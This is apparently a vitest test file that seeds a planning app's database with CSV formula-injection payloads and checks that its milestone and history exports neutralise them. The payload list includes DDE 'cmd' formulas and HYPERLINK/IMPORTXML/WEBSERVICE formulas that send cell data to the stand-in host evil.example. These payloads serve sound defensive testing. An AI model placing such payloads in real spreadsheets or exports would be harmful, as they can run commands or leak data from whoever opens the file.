import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { citations, milestoneParticipants, milestones, participants, regions, sources } from '../../server/db/schema';
import { appendHistory } from '../../server/services/history/append';
import { neutraliseFormula, restoreFormulaText } from '../../shared/csv';
import { csvObjects, download, logIn, parseCsv, postImport } from '../helpers/csv';
import { createTestDatabase, type TestDatabase } from '../helpers/test-db';
import { createUsers, startServer, type TestServer, type TestUsers } from '../helpers/users';

/**
 * CSV injection: text from sources ends up in planners' spreadsheets, and Excel or LibreOffice
 * would run a cell that starts like a formula. Payloads are written straight into the
 * database (as a seed or an old row could hold them, past the forms' trimming) and must come
 * out inert in every text column of both files, while ids stay numbers and dates stay dates.
 */

const PAYLOADS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1;"Нажмите здесь")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n@SUM(A1:A9)',
  '=IMPORTXML(CONCAT("http://evil.example/?v=", A2), "//a")',
  '=WEBSERVICE("http://evil.example/")',
  '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1)',
  "'=1+1",
  "''@x",
  '-1',
  '-',
  '+',
  '@',
  '=',
  ' =1+1',
  '\u00a0@SUM(1)',
];

/** What no text cell may start with: a formula in Excel or LibreOffice, or a blank that hides one. */
const FORMULA_START = /^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/;

let t: TestDatabase;
let users: TestUsers;
let server: TestServer;
let base: string;
const ids: number[] = [];

beforeAll(async () => {
  t = await createTestDatabase();
  users = await createUsers(t.handle.db);
  const now = '2026-05-01T10:00:00.000Z';
  await t.handle.transaction(async (tx) => {
    const [region] = await tx
      .insert(regions)
      .values({ key: 'evil', nameRu: '=Регион', nameEn: '+Region' })
      .returning({ id: regions.id });
    for (const [i, payload] of PAYLOADS.entries()) {
      const [milestone] = await tx
        .insert(milestones)
        .values({
          titleRu: payload,
          titleEn: `${payload} (en)`,
          regionId: region!.id,
          status: 'planned',
          plannedStart: '2030-01-01',
          plannedEnd: '2030-12-31',
          plannedPrecision: 'year',
          actualDate: i % 2 ? '2026-03-15' : null,
          createdAt: now,
          updatedAt: now,
        })
        .returning({ id: milestones.id });
      const id = milestone!.id;
      ids.push(id);
      const [participant] = await tx
        .insert(participants)
        .values({ nameRu: payload, nameEn: payload, kind: 'company' })
        .returning({ id: participants.id });
      await tx.insert(milestoneParticipants).values({ milestoneId: id, participantId: participant!.id, role: 'lead' });
      const [source] = await tx
        .insert(sources)
        .values({ publisher: payload, title: payload, createdAt: now })
        .returning({ id: sources.id });
      const [citation] = await tx
        .insert(citations)
        .values({ sourceId: source!.id, quote: payload, claim: 'milestone', milestoneId: id, createdAt: now })
        .returning({ id: citations.id });
      await appendHistory(tx, now, [
        {
          userId: users.planner.id,
          milestoneId: id,
          entity: 'milestone',
          entityId: id,
          action: 'update',
          field: 'title',
          from: payload,
          to: `${payload}!`,
          reason: payload,
          citationId: citation!.id,
        },
      ]);
    }
  });
  server = await startServer(t);
  base = server.baseUrl;
});
afterAll(async () => {
  await server?.close();
  await t?.cleanup();
});

function expectInert(records: string[][], numeric: number[], dates: number[]) {
  for (const [r, record] of records.entries()) {
    for (const [c, cell] of record.entries()) {
      expect(cell, `row ${r + 1}, column ${c + 1}: ${JSON.stringify(cell)}`).not.toMatch(FORMULA_START);
      if (r === 0) continue;
      if (numeric.includes(c)) expect(cell).toMatch(/^\d+$/);
      if (dates.includes(c)) expect(cell).toMatch(/^(\d{4}-\d{2}-\d{2})?$/);
    }
  }
}

describe('formula payloads', () => {
  it('come out inert in every text cell of the milestone export, in both languages', async () => {
    for (const [query, delimiter] of [
      ['lang=ru', ';'],
      ['lang=en', ','],
    ] as const) {
      const file = await download(base, `/api/export/milestones.csv?${query}`);
      const records = parseCsv(file.text, delimiter);
      expect(records).toHaveLength(PAYLOADS.length + 1);
      // id, version; planned start, planned end, actual date.
      expectInert(records, [0, 1], [8, 9, 12]);
    }
  });

  it('are neutralised with one apostrophe that gives back the exact text', async () => {
    const rows = csvObjects((await download(base, '/api/export/milestones.csv')).text, ';');
    for (const [i, payload] of PAYLOADS.entries()) {
      const row = rows.find((r) => r['ID вехи'] === String(ids[i]));
      expect(row, payload).toBeDefined();
      expect(row!.Название).toBe(neutraliseFormula(payload));
      expect(restoreFormulaText(row!.Название!)).toBe(payload);
      expect(row!['Участники и роли']).toBe(neutraliseFormula(`${payload} (Руководитель)`));
      expect(row!['Источники и цитаты']).toBe(
        neutraliseFormula(`${payload}, «${payload}», дата не указана: «${payload}»`),
      );
      // A number stays a number, a date a date: no apostrophe on them.
      expect(row!['ID вехи']).toBe(String(ids[i]));
      expect(row!['Плановое начало']).toBe('2030-01-01');
    }
    const plain = rows.find((r) => r['ID вехи'] === String(ids[PAYLOADS.indexOf("'=1+1")]));
    expect(plain!.Название).toBe("''=1+1");
  });

  it('come out inert in the history export: reasons, values, names and quotes', async () => {
    for (const [query, delimiter] of [
      ['lang=ru', ';'],
      ['lang=en', ','],
    ] as const) {
      const file = await download(base, `/api/export/history.csv?${query}&field=title`);
      const records = parseCsv(file.text, delimiter);
      expect(records).toHaveLength(PAYLOADS.length + 1);
      expectInert(records, [2], []);
    }
  });

  it('re-imported from the exported file change nothing: the apostrophe is taken off again', async () => {
    const cookie = await logIn(base, 'planner', users.planner.password);
    const file = await download(base, '/api/export/milestones.csv');
    const result = await postImport(
      base,
      { fileName: 'formulas.csv', csv: file.text, reason: '' },
      { dryRun: true, cookie },
    );
    expect(result.status).toBe(200);
    expect(result.body).toMatchObject({ total: PAYLOADS.length, unchanged: PAYLOADS.length, rows: [], errors: [] });
  });
});

describe('neutraliseFormula / restoreFormulaText', () => {
  const risky = fc
    .array(fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', '\n', ' ', '\u00a0', 'a', 'я', '1', '＝', '"', ';'), {
      maxLength: 8,
    })
    .map((chars) => chars.join(''));

  it('never leave a formula start, and always give back the original text', () => {
    fc.assert(
      fc.property(fc.oneof(risky, fc.string()), (text) => {
        const cell = neutraliseFormula(text);
        expect(cell).not.toMatch(FORMULA_START);
        expect(restoreFormulaText(cell)).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });

  it('leave ordinary text, numbers and dates alone', () => {
    for (const text of ['Завод', '2030-01-01', '12', 'III кв. 2028', "O'Neil", 'a=1', '«=»']) {
      expect(neutraliseFormula(text)).toBe(text);
      expect(restoreFormulaText(text)).toBe(text);
    }
  });
});
